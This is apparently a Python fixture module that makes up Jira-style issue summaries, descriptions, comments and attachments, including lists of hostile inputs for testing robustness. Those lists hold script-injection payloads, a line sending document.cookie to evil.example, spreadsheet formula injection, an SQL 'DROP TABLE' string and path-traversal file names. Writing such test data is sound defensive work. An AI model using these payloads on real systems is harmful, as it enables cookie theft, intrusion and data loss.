"""Words of the made-up company: ordinary ones, and those that break careless programs."""

from __future__ import annotations

import random

_WHAT = (
    "Refund", "Payout", "Chargeback", "Invoice import", "Currency table", "Login page", "Nightly batch",
    "Ledger export",
    "Card form", "Webhook", "Audit trail", "Backup job", "Load balancer", "Certificate", "Database index", "Alert rule",
)  # fmt: skip
_HOW = (
    "fails after midnight", "rounds the wrong way", "needs a second approval", "is slower than last month",
    "must be rotated", "shows the old address", "drops the last row", "has no owner", "should be retired",
    "is retried for ever", "accepts an empty amount", "wants a test", "is not documented", "blocks the release",
)  # fmt: skip
_WHY = (
    "Seen twice this week.", "Asked for by the treasury.", "Found in the last review.", "No customer has noticed yet.",
    "The vendor promised a fix.", "See the run book for details.", "Needed before the next close of books.",
)  # fmt: skip
_SAID = (
    "Looks good to me.", "Please add a test first.", "Deployed to staging, watching the graphs.", "Any news?",
    "Rolled back, will try again tomorrow.", "Approved in the change meeting.", "Can't reproduce on my machine.",
    "Done, see the linked issue.", "Waiting for the vendor.", "Split into two sub-tasks.",
)  # fmt: skip

HOSTILE_SUMMARIES: tuple[str, ...] = (
    '<script>alert("summary")</script>',
    '"><img src=x onerror=alert(1)>',
    "=cmd|'/c calc'!A1",
    "+1 from the whole team",
    "-2 rows are lost",
    "@SUM(A1:A9)",
    "\tTAB comes first",
    "\rCR comes first",
    "Invoice \u202egpj.exe\u202c read backwards",
    "Control \x01\x08\x0b\x1f\x7f characters",
    "Lines \u2028 and \u2029 and \x85 inside",
    "W" + "o" * 230 + "rd",
    "{{ template }} ${variable} {% raw %} %s %(name)s",
    "'; DROP TABLE issues; --",
    'Commas, "quotes", and\ta tab',
    "Umlaute äöüß, Ελληνικά, עברית, العربية, 中文, 日本語, 한국어, 👩‍🚀🏳️‍🌈",
    "Combining a\u0301\u0323 and zero\u200bwidth\ufeff marks",
    "|| not a heading || [x|http://evil.example] {code} {color:red}red{color}",
)  # fmt: skip

HOSTILE_DESCRIPTIONS: tuple[str, ...] = (
    '<script src="http://evil.example/x.js"></script><style>body{display:none}</style>',
    "=HYPERLINK(\"http://evil.example\")\n+cmd\n-cmd\n@cmd\n\tcmd\n\rcmd",  # noqa: Q003  each line wants its own sign first
    "{html}<iframe src='javascript:alert(1)'></iframe>{html} [click|javascript:alert(1)] !http://evil.example/pixel.png!",
    "{code}never closed\n{quote}nor this\n||a||b|\n|1|",
    "]]> --> </div></body></html> &amp; &#x3c;",
)  # fmt: skip

HOSTILE_COMMENTS: tuple[str, ...] = (
    "<script>fetch('http://evil.example/'+document.cookie)</script>",
    "=1+1",
    "@here \u202e reversed for ever",
    "\r\nstarts with a line end\x00".replace("\x00", "\x02"),
    "[a link|javascript:alert('comment')] and !image.png|onload=alert(1)!",
)  # fmt: skip

OTHER_SCRIPTS: tuple[str, ...] = (
    "承認しました。ありがとうございます 🙏",
    "Проверено, можно выкатывать 🚀",
    "تمت الموافقة على التغيير ✅",
    "已在预发布环境验证,没有问题 👍🏽",
    "אושר על ידי הצוות",
)  # fmt: skip

HOSTILE_FILES: tuple[tuple[str, bytes, str], ...] = (
    ("../../etc/passwd", b"made up\n", "text/plain"),
    ("..\\..\\windows\\system32\\drivers\\etc\\hosts", b"made up\r\n", "text/plain"),
    ("/absolute/path.txt", b"made up\n", "text/plain"),
    ("C:\\autoexec.bat", b"rem made up\r\n", "application/octet-stream"),
    ("CON", b"a device on Windows\n", "text/plain"),
    ("nul.txt", b"another device\n", "text/plain"),
    ("trailing dot and space. ", b"x", "text/plain"),
    ("invoice\u202egpj.exe", b"MZ made up", "application/x-msdownload"),
    ('<img src=x onerror="alert(1)">.html', b"<script>alert('file')</script>", "text/html"),
    ("=cmd|calc.csv", b"=1+1\n", "text/csv"),
    ("l" + "o" * 240 + "ng.txt", b"long\n", "text/plain"),
    ("same name.txt", b"first\n", "text/plain"),
    ("same name.txt", b"second\n", "text/plain"),
    ("Same Name.TXT", b"third\n", "text/plain"),
    ("line\nbreak\x01.txt", b"x", "text/plain"),
    ("..", b"dots\n", "text/plain"),
    ("スクリーンショット 🖼️.png", b"\x89PNG\r\n\x1a\nmade up", "image/png"),
    ("empty.bin", b"", "application/octet-stream"),
)  # fmt: skip


def summary(rng: random.Random) -> str:
    """Make up an ordinary summary."""
    return f"{rng.choice(_WHAT)} {rng.choice(_HOW)}"


def description(rng: random.Random) -> str | None:
    """Make up an ordinary description in Jira's wiki form; one in six issues has none."""
    choice = rng.randrange(6)
    why = " ".join(rng.sample(_WHY, 2))
    if choice == 0:
        return None
    if choice == 1:
        return f"h3. Steps\n# Open the page\n# Press the button\n# Look\n\n*Expected:* it works.\n\n{why}"
    if choice == 2:
        return f"||Day||Count||\n|Monday|{rng.randrange(90)}|\n|Tuesday|{rng.randrange(90)}|\n\n{why}"
    if choice == 3:
        return f"{why}\n\n{{code:python}}\nassert total == {rng.randrange(1000)}\n{{code}}\n\nSee [the page|https://wiki.example.com/p/{rng.randrange(999)}]."
    return f"{why}\n\n* one thing\n* another thing\n** with a detail"


def comment(rng: random.Random) -> str:
    """Make up an ordinary comment."""
    return " ".join(rng.sample(_SAID, rng.randint(1, 2)))
